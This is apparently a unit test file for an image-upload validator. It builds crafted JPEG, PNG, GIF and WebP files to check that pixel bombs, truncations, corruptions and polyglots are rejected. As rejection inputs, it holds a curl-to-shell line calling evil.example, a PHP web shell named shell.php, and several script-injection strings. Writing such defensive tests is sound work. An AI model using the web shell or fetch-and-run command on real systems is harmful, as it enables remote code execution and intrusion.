/**
 * inspectImage: the container walk over the real fixture photos, and crafted inputs built here
 * (tiny GIF/WebP/PNG/JPEG files, pixel bombs, polyglots, truncations, corruptions).
 */
import { describe, expect, test } from "bun:test";
import { deflateSync } from "node:zlib";
import { ImageRejected, inspectImage, type ImageRejectReason } from "../../src/image/inspect";
import { photo } from "../support/fixtures";

const MAX = 50_000_000; // a plausible intake cap (50 MP)

type Part = Uint8Array | number[] | string;
const text = (s: string) => new TextEncoder().encode(s);
const latin1 = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0));
function concat(...parts: Part[]): Uint8Array {
  const arrays = parts.map((p) => (typeof p === "string" ? latin1(p) : p instanceof Uint8Array ? p : Uint8Array.from(p)));
  const out = new Uint8Array(arrays.reduce((n, a) => n + a.length, 0));
  let at = 0;
  for (const a of arrays) {
    out.set(a, at);
    at += a.length;
  }
  return out;
}
const be16 = (n: number) => [(n >>> 8) & 0xff, n & 0xff];
const be32 = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
const le16 = (n: number) => [n & 0xff, (n >>> 8) & 0xff];
const le24 = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff];
const le32 = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
const zeros = (n: number) => new Uint8Array(n);

/** The rejection inspectImage throws; also checks that its message is short and echoes no input. */
function rejection(bytes: Uint8Array, maxPixels = MAX): ImageRejected {
  let error: unknown;
  try {
    inspectImage(bytes, maxPixels);
  } catch (e) {
    error = e;
  }
  if (!(error instanceof ImageRejected)) throw new Error(`expected ImageRejected, got ${String(error)}`);
  expect(error.name).toBe("ImageRejected");
  expect(error.message.length).toBeLessThanOrEqual(80);
  expect(error.message).toMatch(/^[A-Za-z0-9 ,.-]+$/); // fixed wording: no quotes, markup or raw bytes
  return error;
}
const reason = (bytes: Uint8Array, maxPixels = MAX): ImageRejectReason => rejection(bytes, maxPixels).reason;

// ---------------------------------------------------------------------------------------------
// Builders

/** Header segments of a JPEG up to and including SOS: marker, offset of its 0xFF, end offset. */
function jpegSegments(b: Uint8Array): { marker: number; at: number; end: number }[] {
  const out = [];
  for (let at = 2; ; ) {
    expect(b[at]).toBe(0xff);
    const marker = b[at + 1]!;
    const end = at + 2 + (b[at + 2]! << 8) + b[at + 3]!;
    out.push({ marker, at, end });
    if (marker === 0xda) return out;
    at = end;
  }
}
const segment = (b: Uint8Array, marker: number) => jpegSegments(b).find((s) => s.marker === marker)!;

/** A structurally minimal JPEG: SOI, SOF0 (one component), SOS, `scan` as entropy data, EOI (no tables, so not decodable). */
function tinyJpeg(width = 1, height = 1, scan: number[] = [0x12, 0x34]): Uint8Array {
  return concat(
    [0xff, 0xd8],
    [0xff, 0xc0, ...be16(11), 8, ...be16(height), ...be16(width), 1, 1, 0x11, 0],
    [0xff, 0xda, ...be16(8), 1, 1, 0x00, 0, 63, 0],
    scan,
    [0xff, 0xd9],
  );
}

function pngChunk(type: string, data: Part = []): Uint8Array {
  const body = concat(type, data);
  return concat(be32(body.length - 4), body, be32(Bun.hash.crc32(body)));
}
const PNG_SIG = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const ihdr = (width: number, height: number, bitDepth = 8, colourType = 2, interlace = 0) =>
  pngChunk("IHDR", [...be32(width), ...be32(height), bitDepth, colourType, 0, 0, interlace]);
/** A 1-row image's worth of zlib data (the decoder would stop early on a big image; the container is valid). */
const idat = (rowBytes = 3) => pngChunk("IDAT", deflateSync(zeros(1 + rowBytes)));
const iend = () => pngChunk("IEND");
const png = (...chunks: Uint8Array[]) => concat(PNG_SIG, ...chunks);

/** Offsets of a PNG's chunks (length field) by type. */
function pngChunks(b: Uint8Array): { type: string; at: number; length: number }[] {
  const out = [];
  for (let at = 8; at < b.length; ) {
    const length = ((b[at]! << 24) >>> 0) + (b[at + 1]! << 16) + (b[at + 2]! << 8) + b[at + 3]!;
    out.push({ type: String.fromCharCode(...b.subarray(at + 4, at + 8)), at, length });
    at += 12 + length;
  }
  return out;
}

/** The classic 43-byte transparent 1×1 GIF89a. */
const GIF_1X1 = Uint8Array.from([
  0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0x21, 0xf9, 0x04,
  0x01, 0x00, 0x00, 0x00, 0x00, 0x2c, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b,
]);
/** An image descriptor at (left, top) of width × height with a 2-colour local table and 1×1 LZW data. */
const gifFrame = (left: number, top: number, width: number, height: number) =>
  concat([0x2c, ...le16(left), ...le16(top), ...le16(width), ...le16(height), 0x80], [0, 0, 0, 255, 255, 255], [0x02, 0x02, 0x44, 0x01, 0x00]);
const gifScreen = (width: number, height: number) => concat("GIF89a", le16(width), le16(height), [0x00, 0x00, 0x00]);

function webpChunk(type: string, data: Part): Uint8Array {
  const payload = concat(data);
  return concat(type, le32(payload.length), payload, payload.length % 2 ? [0] : []);
}
const riff = (...chunks: Uint8Array[]) => {
  const body = concat("WEBP", ...chunks);
  return concat("RIFF", le32(body.length), body);
};
/** A real 1×1 lossless bitstream (cwebp -lossless), 15 bytes: signature 0x2F, then 14-bit width-1/height-1. */
const VP8L_1X1 = [0x2f, 0x00, 0x00, 0x00, 0x00, 0x07, 0x10, 0xfd, 0x8f, 0xfe, 0x07, 0x22, 0xa2, 0xff, 0x01];
/** The VP8L header alone for any size (the pixel data does not matter to the container walk). */
const vp8lHeader = (width: number, height: number) => [0x2f, ...le32((width - 1) | ((height - 1) << 14))];
/** A real 1×1 lossy key frame (cwebp): frame tag, start code 9D 01 2A, 14-bit width/height, data. */
const VP8_1X1 = [
  0xd0, 0x01, 0x00, 0x9d, 0x01, 0x2a, 0x01, 0x00, 0x01, 0x00, 0x02, 0x00, 0x34, 0x25, 0xa0, 0x02, 0x74, 0xba, 0x01, 0xf8, 0x00, 0x03, 0xb0,
  0x00, 0xfe, 0xf0, 0xc4, 0x0b, 0xff, 0x20, 0xb9, 0x61, 0x75, 0xc8, 0xd7, 0xff, 0x20, 0x3f, 0xe4, 0x07, 0xfc, 0x80, 0xff, 0xf8, 0xf2, 0x00,
  0x00, 0x00,
];
const WEBP_1X1 = riff(webpChunk("VP8L", VP8L_1X1));
const vp8x = (flags: number, width: number, height: number) => webpChunk("VP8X", [flags, 0, 0, 0, ...le24(width - 1), ...le24(height - 1)]);
const anmf = (x: number, y: number, width: number, height: number, image: Uint8Array) =>
  webpChunk("ANMF", concat(le24(x / 2), le24(y / 2), le24(width - 1), le24(height - 1), le24(100), [0], image));
const withRiffSize = (b: Uint8Array, size: number) => concat(b.subarray(0, 4), le32(size), b.subarray(8));

const ZIP_LOCAL_HEADER = concat([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x00, 0x00], zeros(16), [9, 0, 0, 0], "shell.php", "<?php system($_GET[0]);");

// ---------------------------------------------------------------------------------------------

describe("the fixture photos", () => {
  // Dimensions as reported by file(1) for these fixed files.
  const fixtures: [string, "jpeg" | "png", number, number][] = [
    ["vehicle-bus.jpg", "jpeg", 546, 413],
    ["vehicle-car-rear.jpg", "jpeg", 600, 482], // EXIF (FUJIFILM / Photoshop) in APP1
    ["vehicle-boats-harbour.jpg", "jpeg", 1024, 253],
    ["none-building.jpg", "jpeg", 868, 600],
    ["none-fruits.jpg", "jpeg", 512, 480], // has a COM segment
    ["vehicle-motorcycle.png", "png", 741, 500],
    ["none-cat.png", "png", 451, 300],
    ["none-coffee.png", "png", 600, 400],
  ];
  for (const [name, format, width, height] of fixtures)
    test(`${name} is a ${width}x${height} ${format}`, () => {
      expect(inspectImage(photo(name), MAX)).toEqual({ format, width, height });
    });

  test("the pixel cap is inclusive", () => {
    expect(inspectImage(photo("vehicle-bus.jpg"), 546 * 413).width).toBe(546);
    expect(reason(photo("vehicle-bus.jpg"), 546 * 413 - 1)).toBe("too_many_pixels");
    expect(inspectImage(photo("none-cat.png"), 451 * 300).height).toBe(300);
    expect(reason(photo("none-cat.png"), 451 * 300 - 1)).toBe("too_many_pixels");
  });

  test("the input is not modified", () => {
    const b = photo("none-fruits.jpg");
    const copy = b.slice();
    inspectImage(b, MAX);
    expect(b).toEqual(copy);
  });
});

describe("not an image", () => {
  test("scripts, HTML, ZIP, PDF, BMP, empty input and lone signatures are unsupported", () => {
    for (const b of [
      text("#!/bin/sh\ncurl http://evil.example | sh\n"),
      text("<script>alert(1)</script>"),
      text("<!DOCTYPE html><html><body>hi</body></html>"),
      ZIP_LOCAL_HEADER,
      text("%PDF-1.7\n"),
      concat("BM", zeros(60)),
      new Uint8Array(),
      Uint8Array.from([0xff]),
      text("GIF8"),
      text("RIFF\x04\x00\x00\x00WAVE"),
    ])
      expect(reason(b)).toBe("unsupported");
  });

  test("maxPixels must be positive", () => {
    expect(() => inspectImage(GIF_1X1, 0)).toThrow(RangeError);
    expect(() => inspectImage(GIF_1X1, Number.NaN)).toThrow(RangeError);
  });
});

describe("JPEG", () => {
  const bus = () => photo("vehicle-bus.jpg");

  test("a minimal baseline JPEG, RSTn and stuffed 0xFF in the scan, fill bytes before markers", () => {
    expect(inspectImage(tinyJpeg(3, 2), MAX)).toEqual({ format: "jpeg", width: 3, height: 2 });
    const scan = [0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56, 0xff, 0xff, 0xd1, 0x78, 0xff, 0xff, 0xff];
    expect(inspectImage(tinyJpeg(2, 2, scan), MAX).width).toBe(2); // the trailing FFs are fill before EOI
    const t = tinyJpeg();
    const filled = concat(t.subarray(0, 2), [0xff, 0xff, 0xff], t.subarray(2)); // FF FF FF FF C0 …
    expect(inspectImage(filled, MAX).height).toBe(1);
  });

  test("a multi-scan (progressive-style) file: markers between scans", () => {
    const b = bus();
    const sos = segment(b, 0xda).at;
    const scan = b.subarray(sos, b.length - 2); // SOS header + entropy data
    const comment = concat([0xff, 0xfe], be16(2 + 5), "scan2");
    const multi = concat(b.subarray(0, sos), scan, comment, scan, [0xff, 0xd9]);
    expect(inspectImage(multi, MAX)).toEqual({ format: "jpeg", width: 546, height: 413 });
  });

  test("an EXIF thumbnail (a whole JPEG inside APP1) does not end the image early", () => {
    const b = bus();
    const thumb = tinyJpeg(8, 6);
    const app1 = concat([0xff, 0xe1], be16(2 + 6 + thumb.length), "Exif\0\0", thumb);
    const app0End = jpegSegments(b)[0]!.end;
    const withThumb = concat(b.subarray(0, app0End), app1, b.subarray(app0End));
    expect(inspectImage(withThumb, MAX)).toEqual({ format: "jpeg", width: 546, height: 413 });
  });

  test("metadata segments are opaque: markup inside a COM segment is not detected (serve with nosniff)", () => {
    const b = bus();
    const com = concat([0xff, 0xfe], be16(2 + 29), "<script>alert(1)</script>\xff\xd9xx");
    expect(inspectImage(concat(b.subarray(0, 2), com, b.subarray(2)), MAX).width).toBe(546);
  });

  test("a frame header claiming 65535x65535 is a pixel bomb, refused before the scan is read", () => {
    const b = bus();
    const sof = segment(b, 0xc0).at;
    b.set([0xff, 0xff, 0xff, 0xff], sof + 5); // height, width
    expect(reason(b)).toBe("too_many_pixels");
    // Cut right after the frame header: the cap fires before any scan data is needed.
    expect(reason(b.subarray(0, segment(b, 0xc0).end))).toBe("too_many_pixels");
    expect(inspectImage(b, 65535 * 65535)).toEqual({ format: "jpeg", width: 65535, height: 65535 });
  });

  test("polyglots: a script, an HTML page or a ZIP after EOI", () => {
    expect(reason(concat(bus(), "<script>alert(1)</script>"))).toBe("trailing_data");
    expect(reason(concat(bus(), "\n<html><body onload=alert(1)>"))).toBe("trailing_data");
    expect(reason(concat(bus(), ZIP_LOCAL_HEADER))).toBe("trailing_data");
    expect(reason(concat(bus(), zeros(100), "<?php system($_GET[0]); ?>"))).toBe("trailing_data"); // hidden behind padding
  });

  test("multi-picture JPEGs (Ultra HDR gain map, MPF): further complete JPEGs after EOI are allowed, each checked", () => {
    expect(inspectImage(concat(bus(), tinyJpeg()), MAX)).toEqual({ format: "jpeg", width: 546, height: 413 });
    expect(inspectImage(concat(bus(), tinyJpeg(), tinyJpeg()), MAX).width).toBe(546);
    // The appended picture obeys the same rules: nothing may follow it either, and it is capped too.
    expect(reason(concat(bus(), tinyJpeg(), "<script>alert(1)</script>"))).toBe("trailing_data");
    expect(reason(concat(bus(), tinyJpeg().subarray(0, 10)))).toBe("truncated");
    const bomb = tinyJpeg();
    bomb.set([0xff, 0xff, 0xff, 0xff], segment(bomb, 0xc0).at + 5);
    expect(reason(concat(bus(), bomb))).toBe("too_many_pixels");
  });

  test("up to 1 KiB of NUL / whitespace padding after EOI is tolerated, more is not", () => {
    expect(inspectImage(concat(bus(), zeros(1024)), MAX).width).toBe(546);
    expect(inspectImage(concat(bus(), "\r\n \t\n"), MAX).width).toBe(546);
    expect(reason(concat(bus(), zeros(1025)))).toBe("trailing_data");
    expect(reason(concat(bus(), [0xff]))).toBe("trailing_data");
  });

  test("truncations", () => {
    const b = bus();
    expect(reason(b.subarray(0, b.length >> 1))).toBe("truncated"); // cut in half, inside the scan
    expect(reason(b.subarray(0, b.length - 2))).toBe("truncated"); // no EOI
    expect(reason(b.subarray(0, b.length - 1))).toBe("truncated"); // EOI cut after its 0xFF
    expect(reason(b.subarray(0, 300))).toBe("truncated"); // inside a header segment
    expect(reason(Uint8Array.from([0xff, 0xd8]))).toBe("truncated");
    expect(reason(Uint8Array.from([0xff, 0xd8, 0xff]))).toBe("truncated");
  });

  test("no frame header: malformed", () => {
    const b = bus();
    const sof = segment(b, 0xc0);
    expect(reason(concat(b.subarray(0, sof.at), b.subarray(sof.end)))).toBe("malformed");
    expect(reason(Uint8Array.from([0xff, 0xd8, 0xff, 0xd9]))).toBe("malformed"); // SOI EOI
  });

  test("other structural errors: malformed", () => {
    const t = tinyJpeg();
    expect(reason(concat(t.subarray(0, 2), "junk", t.subarray(2)))).toBe("malformed"); // bytes between segments
    expect(reason(concat(t.subarray(0, 2), [0xff, 0xd8], t.subarray(2)))).toBe("malformed"); // second SOI
    expect(reason(concat(t.subarray(0, 2), [0xff, 0x00], t.subarray(2)))).toBe("malformed"); // stuffed byte outside a scan
    expect(reason(concat(t.subarray(0, 2), [0xff, 0xe0, 0x00, 0x01], t.subarray(2)))).toBe("malformed"); // length < 2
    expect(reason(tinyJpeg(0, 5))).toBe("malformed"); // zero width
    expect(reason(tinyJpeg(5, 0))).toBe("malformed"); // height deferred to DNL
    const sof = t.subarray(2, 15);
    expect(reason(concat(t.subarray(0, 2), sof, sof, t.subarray(15)))).toBe("malformed"); // two frame headers
    expect(reason(concat(t.subarray(0, 2), t.subarray(15, 25), sof, t.subarray(25)))).toBe("malformed"); // SOS before SOF
  });

  test("a large (~10 MiB) scan is walked in one pass", () => {
    const scan = new Uint8Array(10 * 1024 * 1024).fill(0x5a);
    for (let i = 0; i + 1 < scan.length; i += 97) scan.set([0xff, 0x00], i); // lots of stuffed 0xFF
    for (let i = 50; i + 1 < scan.length; i += 65536) scan.set([0xff, 0xd0 + ((i >> 16) & 7)], i); // restart markers
    const big = concat(tinyJpeg(4000, 3000, []).subarray(0, -2), scan, [0xff, 0xd9]);
    expect(inspectImage(big, MAX)).toEqual({ format: "jpeg", width: 4000, height: 3000 });
    expect(reason(concat(big, "x"))).toBe("trailing_data");
  });
});

describe("PNG", () => {
  const cat = () => photo("none-cat.png");

  test("crafted files: truecolour, palette, greyscale 1-bit, 16-bit RGBA interlaced, ancillary chunks", () => {
    expect(inspectImage(png(ihdr(1, 1), idat(), iend()), MAX)).toEqual({ format: "png", width: 1, height: 1 });
    expect(inspectImage(png(ihdr(2, 1, 8, 3), pngChunk("PLTE", [0, 0, 0, 255, 255, 255]), idat(2), iend()), MAX).width).toBe(2);
    expect(inspectImage(png(ihdr(8, 1, 1, 0), idat(1), iend()), MAX).width).toBe(8);
    expect(inspectImage(png(ihdr(3, 3, 16, 6, 1), idat(24), iend()), MAX).height).toBe(3);
    const text = pngChunk("tEXt", "Comment\0hello");
    expect(inspectImage(png(ihdr(1, 1), text, idat(), pngChunk("zzZz", "unknown ancillary"), iend()), MAX).width).toBe(1);
    expect(inspectImage(png(ihdr(1, 1), idat(), pngChunk("IDAT", []), iend()), MAX).width).toBe(1); // split IDAT
  });

  test("a 100000x100000 IHDR is a pixel bomb, refused before the rest is checksummed", () => {
    const bomb = png(ihdr(100_000, 100_000), idat(), iend());
    expect(reason(bomb)).toBe("too_many_pixels");
    expect(reason(bomb.subarray(0, 8 + 25))).toBe("too_many_pixels"); // IHDR alone
    expect(inspectImage(bomb, 1e10)).toEqual({ format: "png", width: 100_000, height: 100_000 }); // otherwise well-formed
  });

  test("polyglots: a ZIP, a script or a second PNG after IEND", () => {
    expect(reason(concat(cat(), ZIP_LOCAL_HEADER))).toBe("trailing_data");
    expect(reason(concat(cat(), "<script>alert(1)</script>"))).toBe("trailing_data");
    expect(reason(concat(cat(), png(ihdr(1, 1), idat(), iend())))).toBe("trailing_data");
    expect(reason(concat(cat(), [0]))).toBe("trailing_data");
  });

  test("truncations", () => {
    const b = cat();
    const idatChunk = pngChunks(b).find((c) => c.type === "IDAT")!;
    expect(reason(b.subarray(0, idatChunk.at + 8 + 100))).toBe("truncated"); // mid-chunk
    expect(reason(b.subarray(0, b.length - 12))).toBe("truncated"); // at a chunk boundary, no IEND
    expect(reason(b.subarray(0, b.length - 1))).toBe("truncated"); // inside IEND's CRC
    expect(reason(b.subarray(0, 8))).toBe("truncated"); // signature only
    expect(reason(b.subarray(0, b.length >> 1))).toBe("truncated");
  });

  test("one flipped byte in IDAT fails its CRC", () => {
    const b = cat();
    const idatChunk = pngChunks(b).find((c) => c.type === "IDAT")!;
    b[idatChunk.at + 8 + 1000]! ^= 0x01;
    expect(reason(b)).toBe("malformed");
  });

  test("CRCs of every length are checked, on both sides of the native / table-loop switch (32 bytes of type + data)", () => {
    for (let n = 0; n <= 70; n++) {
      const data = Uint8Array.from({ length: n }, (_, i) => (i * 37 + n) & 0xff);
      const good = png(ihdr(1, 1), pngChunk("zzZz", data), idat(), iend());
      expect(inspectImage(good, MAX).width).toBe(1);
      for (const at of n > 0 ? [0, n - 1] : []) {
        const bad = good.slice();
        bad[8 + 25 + 8 + at]! ^= 0x80; // a data byte of the zzZz chunk
        expect(reason(bad)).toBe("malformed");
      }
      const badType = good.slice();
      badType[8 + 25 + 5]! ^= 0x20; // zzZz → zZZz: still an ancillary chunk; only its CRC is wrong
      expect(reason(badType)).toBe("malformed");
    }
    // A large chunk whose stored CRC is off by one bit.
    const big = png(ihdr(1, 1), pngChunk("zzZz", zeros(100_000)), idat(), iend());
    big[8 + 25 + 8 + 100_000]! ^= 0x01;
    expect(reason(big)).toBe("malformed");
  });

  test("chunk order and header rules: malformed", () => {
    const ok = [ihdr(1, 1), idat(), iend()];
    expect(reason(png(idat(), ihdr(1, 1), iend()))).toBe("malformed"); // IHDR not first
    expect(reason(png(ihdr(1, 1), iend()))).toBe("malformed"); // no IDAT
    expect(reason(png(ihdr(1, 1), ihdr(1, 1), idat(), iend()))).toBe("malformed"); // two IHDRs
    expect(reason(png(ihdr(0, 1), idat(), iend()))).toBe("malformed");
    expect(reason(png(ihdr(2 ** 31, 1), idat(), iend()))).toBe("malformed");
    expect(reason(png(ihdr(1, 1, 16, 3), idat(), iend()))).toBe("malformed"); // 16-bit palette
    expect(reason(png(ihdr(1, 1, 4, 2), idat(), iend()))).toBe("malformed"); // 4-bit truecolour
    expect(reason(png(ihdr(1, 1, 8, 5), idat(), iend()))).toBe("malformed"); // colour type 5
    expect(reason(png(ihdr(1, 1, 8, 2, 2), idat(), iend()))).toBe("malformed"); // interlace 2
    expect(reason(png(ihdr(1, 1, 8, 3), idat(), iend()))).toBe("malformed"); // palette image without PLTE
    expect(reason(png(ihdr(1, 1), idat(), pngChunk("tEXt", "a\0b"), idat(), iend()))).toBe("malformed"); // IDATs split
    expect(reason(png(ihdr(1, 1), pngChunk("ABCD", "x"), idat(), iend()))).toBe("malformed"); // unknown critical chunk
    expect(reason(png(ihdr(1, 1), pngChunk("ID@T", "x"), idat(), iend()))).toBe("malformed"); // not a chunk name
    expect(reason(png(ihdr(1, 1), pngChunk("IDAT", "not zlib"), iend()))).toBe("malformed");
    expect(reason(png(ihdr(1, 1), idat(), pngChunk("IEND", "x")))).toBe("malformed");
    const big = concat(PNG_SIG, ...ok);
    big.set([0x80, 0, 0, 0], 8 + 25 + 0); // IDAT length ≥ 2^31
    expect(reason(big)).toBe("malformed");
  });
});

describe("GIF", () => {
  test("the classic 1x1 GIF", () => {
    expect(inspectImage(GIF_1X1, MAX)).toEqual({ format: "gif", width: 1, height: 1 });
    expect(inspectImage(concat("GIF87a", GIF_1X1.subarray(6)), MAX).format).toBe("gif");
  });

  test("an animation with extensions and local colour tables; frames beyond the screen enlarge it", () => {
    const netscape = concat([0x21, 0xff, 0x0b], "NETSCAPE2.0", [0x03, 0x01, 0x00, 0x00, 0x00]);
    const comment = concat([0x21, 0xfe, 0x05], "hello", [0x00]);
    const gce = [0x21, 0xf9, 0x04, 0x04, 0x0a, 0x00, 0x00, 0x00];
    const anim = concat(gifScreen(10, 8), netscape, comment, gce, gifFrame(0, 0, 10, 8), gce, gifFrame(5, 6, 10, 4), [0x3b]);
    expect(inspectImage(anim, MAX)).toEqual({ format: "gif", width: 15, height: 10 });
  });

  test("pixel bombs: a huge logical screen, or a frame far outside a tiny one", () => {
    expect(reason(concat(gifScreen(65535, 65535), gifFrame(0, 0, 1, 1), [0x3b]))).toBe("too_many_pixels");
    expect(reason(concat(gifScreen(1, 1), gifFrame(65535, 65535, 65535, 65535), [0x3b]))).toBe("too_many_pixels");
    expect(reason(concat(gifScreen(1, 1), gifFrame(0, 0, 65535, 65535)))).toBe("too_many_pixels"); // before the trailer matters
  });

  test("polyglots: HTML or a script after the trailer", () => {
    expect(reason(concat(GIF_1X1, "<html><script>alert(document.domain)</script></html>"))).toBe("trailing_data");
    expect(reason(concat(GIF_1X1, zeros(8), "<svg onload=alert(1)>"))).toBe("trailing_data");
  });

  test("up to 16 NUL bytes after the trailer are tolerated, more are not", () => {
    expect(inspectImage(concat(GIF_1X1, zeros(16)), MAX).width).toBe(1);
    expect(reason(concat(GIF_1X1, zeros(17)))).toBe("trailing_data");
  });

  test("truncations", () => {
    expect(reason(GIF_1X1.subarray(0, GIF_1X1.length - 1))).toBe("truncated"); // no trailer
    expect(reason(GIF_1X1.subarray(0, 30))).toBe("truncated"); // inside the image descriptor
    expect(reason(GIF_1X1.subarray(0, 10))).toBe("truncated");
    expect(reason(concat(gifScreen(1, 1), [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0x00, 0x02, 0x05, 0x44]))).toBe("truncated"); // sub-block cut
  });

  test("structural errors: malformed", () => {
    expect(reason(concat(gifScreen(1, 1), [0x3b]))).toBe("malformed"); // no image
    expect(reason(concat(gifScreen(1, 1), [0x99], gifFrame(0, 0, 1, 1), [0x3b]))).toBe("malformed"); // unknown block
    expect(reason(concat(gifScreen(0, 0), gifFrame(0, 0, 0, 0), [0x3b]))).toBe("malformed"); // 0x0
    const badCodeSize = concat(gifScreen(1, 1), [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0x00, 12, 0x00, 0x3b]);
    expect(reason(badCodeSize)).toBe("malformed");
  });
});

describe("WebP", () => {
  test("lossless 1x1 (VP8L) and lossy 1x1 (VP8) simple files", () => {
    expect(WEBP_1X1.length).toBe(36); // 12 + 8 + 15 + 1 pad byte; RIFF size 28
    expect(inspectImage(WEBP_1X1, MAX)).toEqual({ format: "webp", width: 1, height: 1 });
    expect(inspectImage(riff(webpChunk("VP8 ", VP8_1X1)), MAX)).toEqual({ format: "webp", width: 1, height: 1 });
    expect(inspectImage(riff(webpChunk("VP8L", vp8lHeader(16384, 3))), MAX)).toEqual({ format: "webp", width: 16384, height: 3 });
  });

  test("extended (VP8X) files: still image with alpha and EXIF, and an animation", () => {
    const still = riff(vp8x(0x18, 1, 1), webpChunk("ALPH", [0, 0xff]), webpChunk("VP8 ", VP8_1X1), webpChunk("EXIF", "II*\0"));
    expect(inspectImage(still, MAX)).toEqual({ format: "webp", width: 1, height: 1 });
    const frame = webpChunk("VP8L", VP8L_1X1);
    const anim = riff(vp8x(0x02, 4, 3), webpChunk("ANIM", [0, 0, 0, 0, 0, 0]), anmf(0, 0, 1, 1, frame), anmf(2, 2, 1, 1, frame));
    expect(inspectImage(anim, MAX)).toEqual({ format: "webp", width: 4, height: 3 });
    // A frame outside the canvas, or a frame whose bitstream size differs from its header, is malformed.
    expect(reason(riff(vp8x(0x02, 2, 2), anmf(2, 0, 1, 1, frame)))).toBe("malformed");
    expect(reason(riff(vp8x(0x02, 4, 4), anmf(0, 0, 2, 2, frame)))).toBe("malformed");
    expect(reason(riff(vp8x(0x00, 2, 2), webpChunk("VP8L", VP8L_1X1)))).toBe("malformed"); // still image ≠ canvas
    expect(reason(riff(vp8x(0x00, 1, 1), webpChunk("EXIF", "II*\0")))).toBe("malformed"); // no image
  });

  test("pixel bombs: a huge VP8X canvas or VP8L bitstream", () => {
    expect(reason(riff(vp8x(0x02, 1 << 24, 1 << 24), webpChunk("ANIM", zeros(6))))).toBe("too_many_pixels");
    expect(reason(riff(webpChunk("VP8L", vp8lHeader(16384, 16384))), 100_000_000)).toBe("too_many_pixels");
  });

  test("a RIFF size that does not match the file is malformed", () => {
    expect(reason(withRiffSize(WEBP_1X1, 28 + 2))).toBe("malformed"); // claims more, chunks end at EOF
    expect(reason(withRiffSize(WEBP_1X1, 28 - 2))).toBe("malformed"); // claims less, chunk overruns it
    expect(reason(withRiffSize(WEBP_1X1, 2))).toBe("malformed");
    // The RIFF size is right but the chunk inside claims more than the container holds.
    const inner = WEBP_1X1.slice();
    inner[16] = 17;
    expect(reason(inner)).toBe("malformed");
  });

  test("polyglots and truncations", () => {
    expect(reason(concat(WEBP_1X1, "<script>alert(1)</script>"))).toBe("trailing_data");
    expect(reason(concat(WEBP_1X1, ZIP_LOCAL_HEADER))).toBe("trailing_data");
    expect(reason(WEBP_1X1.subarray(0, 25))).toBe("truncated");
    expect(reason(WEBP_1X1.subarray(0, 16))).toBe("truncated");
    // An odd-sized final chunk may omit its pad byte when the RIFF size says so.
    const unpadded = withRiffSize(WEBP_1X1.subarray(0, 35), 27);
    expect(inspectImage(unpadded, MAX).width).toBe(1);
  });

  test("bitstream header errors", () => {
    expect(reason(riff(webpChunk("VP8L", [0x2e, 0, 0, 0, 0])))).toBe("malformed"); // bad signature
    expect(reason(riff(webpChunk("VP8L", [0x2f, 0, 0, 0, 0x20])))).toBe("malformed"); // version 1
    const badStart = VP8_1X1.slice();
    badStart[3] = 0x9c;
    expect(reason(riff(webpChunk("VP8 ", badStart)))).toBe("malformed");
    const interFrame = VP8_1X1.slice();
    interFrame[0]! |= 1;
    expect(reason(riff(webpChunk("VP8 ", interFrame)))).toBe("malformed");
    expect(reason(riff(webpChunk("ICCP", "x"), webpChunk("VP8L", VP8L_1X1)))).toBe("malformed"); // first chunk not an image
    expect(reason(riff(webpChunk("VP\0L", VP8L_1X1)))).toBe("malformed"); // FourCC not printable
  });
});
